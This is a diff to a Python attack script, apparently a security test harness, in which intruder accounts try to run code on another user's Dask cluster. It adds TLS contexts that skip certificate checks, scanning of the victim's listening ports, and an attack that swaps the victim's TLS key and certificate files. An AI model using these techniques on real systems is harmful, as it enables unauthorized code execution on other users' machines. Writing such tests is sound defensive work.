@@ -1,8 +1,8 @@
 """What an intruder tries: ``python3 attacks.py ATTACK '{"fact": …}'``, as mallory or bob.
 
 Each function is one attack. It gets what an intruder finds out by scanning ports and looking
-around, and returns whether it worked, with one line of evidence. Code that runs as alice leaves a file in
-LOOT, whose owner is then alice: nobody else could have made it.
+around, and returns whether it worked, with one line of evidence. Code that runs as alice leaves a
+file in LOOT, whose owner is then alice: nobody else could have made it.
 """
 
 import asyncio
@@ -67,36 +67,40 @@ def in_words(error):
     return f"{type(error).__name__}: {' '.join(str(error).split())}"[:200]
 
 
-def own_security(address):
+def own_certificate():
+    """Return the files of a key and a certificate of the intruder's own."""
+    folder = tempfile.mkdtemp()
+    key, certificate = f"{folder}/key.pem", f"{folder}/cert.pem"
+    command = "openssl req -x509 -nodes -newkey rsa:2048 -days 2 -subj /CN=dask"
+    files = ["-keyout", key, "-out", certificate]
+    subprocess.run([*command.split(), *files], check=True, capture_output=True)
+    return key, certificate
+
+
+def own_security(address, files=None):
     """Return a Security for an encrypted address, with a certificate of the intruder's own."""
     if not address.startswith("tls"):
         return None
     from distributed import Security
 
-    folder = tempfile.mkdtemp()
-    pair = [f"{folder}/key.pem", f"{folder}/cert.pem"]
-    command = "openssl req -x509 -nodes -newkey rsa:2048 -days 2 -subj /CN=dask"
-    files = ["-keyout", pair[0], "-out", pair[1]]
-    subprocess.run([*command.split(), *files], check=True, capture_output=True)
+    key, certificate = files or own_certificate()
 
     class Careless(Security):
         def get_connection_args(self, role):
             context = ssl.create_default_context()
             context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
-            context.load_cert_chain(pair[1], pair[0])
+            context.load_cert_chain(certificate, key)
             return {"ssl_context": context, "require_encryption": True, "extra_conn_args": {}}
 
         def get_listen_args(self, role):
             context = ssl.create_default_context(ssl.Purpose.CLIENT_AUTH)
-            context.load_cert_chain(pair[1], pair[0])
+            context.load_cert_chain(certificate, key)
             return {"ssl_context": context, "require_encryption": True}
 
-    files = {
-        f"tls_{role}_{kind}": pair[kind == "cert"]
-        for role in ("client", "worker", "scheduler")
-        for kind in ("key", "cert")
-    }
-    return Careless(tls_ca_file=pair[1], require_encryption=True, **files)
+    roles = ("client", "worker", "scheduler")
+    own = {f"tls_{role}_key": key for role in roles}
+    own |= {f"tls_{role}_cert": certificate for role in roles}
+    return Careless(tls_ca_file=certificate, require_encryption=True, **own)
 
 
 # --- the network ---
@@ -115,10 +119,9 @@ def client(scheduler, **_):
     return loot.result()
 
 
-async def _op_run(address, command):
+async def _op_run(address, command, security):
     from distributed.core import connect
 
-    security = own_security(address)
     options = security.get_connection_args("client") if security else {}
     comm = await connect(address, timeout=TIMEOUT_S, **options)
     try:
@@ -129,11 +132,11 @@ async def _op_run(address, command):
         comm.abort()
 
 
-def _run_at(addresses):
+def _run_at(addresses, files=None):
     loot, said = Loot(), "no such port is known"
     for address in addresses:
         try:
-            asyncio.run(_op_run(address, loot.command))
+            asyncio.run(_op_run(address, loot.command, own_security(address, files)))
         except Exception as error:
             said = in_words(error)
         else:
@@ -206,19 +209,23 @@ def garbage(scheduler, number=300, **_):
     return sent == number, f"{sent} connections"
 
 
-def open_ports(pid_user="alice", **_):
-    """Look for ports of alice's on this computer that answer whoever connects."""
-    uid = pwd.getpwnam(pid_user).pw_uid
-    found = []
+def _ports():
+    """Return alice's ports on this computer, each with an address that leads there."""
+    uid, found = pwd.getpwnam("alice").pw_uid, []
     for line in Path("/proc/net/tcp").read_text().splitlines()[1:]:
-        words = line.split()
-        if words[3] != "0A" or int(words[7]) != uid:
-            continue
-        number, port = words[1].split(":")
-        address = socket.inet_ntoa(struct.pack("<I", int(number, 16)))
-        address = socket.gethostbyname(socket.gethostname()) if address == "0.0.0.0" else address
-        if says := _answer(address, int(port, 16)):
-            found.append(f"{address}:{int(port, 16)} {says}")
+        _, local, _, state, _, _, _, user = line.split()[:8]
+        if state == "0A" and int(user) == uid:  # it listens
+            number, port = local.split(":")
+            address = socket.inet_ntoa(struct.pack("<I", int(number, 16)))
+            own = socket.gethostbyname(socket.gethostname())
+            found.append((own if address == "0.0.0.0" else address, int(port, 16)))
+    return found
+
+
+def open_ports(**_):
+    """Look for ports of alice's on this computer that answer whoever connects."""
+    answers = [(host, port, _answer(host, port)) for host, port in _ports()]
+    found = [f"{host}:{port} {says}" for host, port, says in answers if says]
     return bool(found), "; ".join(found) or "no port of alice's answers"
 
 
@@ -446,6 +453,31 @@ def log_links(folder, target, **_):
     except OSError as error:
         return False, in_words(error)
     return True, f"{folder} has links to {target}"
+
+
+def tls_files(folder, seconds=40, **_):
+    """Exchange the files of a TLS connection by the intruder's own, and call the worker."""
+    key, certificate = own_certificate()
+    try:
+        names = [file.name for file in Path(folder).iterdir()]
+        Path(folder).rename(f"{folder}.was")
+        Path(folder).mkdir()
+        Path(folder).chmod(0o777)
+    except OSError as error:
+        return False, in_words(error)
+    for name in names:
+        file = Path(folder, name)
+        shutil.copy(key if "key" in name else certificate, file)
+        file.chmod(0o644)
+    print("ready", flush=True)
+    end, before = time.monotonic() + seconds, set(_ports())
+    while time.monotonic() < end:
+        for host, port in set(_ports()) - before:
+            won, said = _run_at([f"tls://{host}:{port}"], (key, certificate))
+            if won:
+                return won, said
+        time.sleep(0.5)
+    return False, f"{len(names)} files were exchanged, no worker of alice's uses them"
 
 
 def take_port(scheduler, seconds=60, **_):
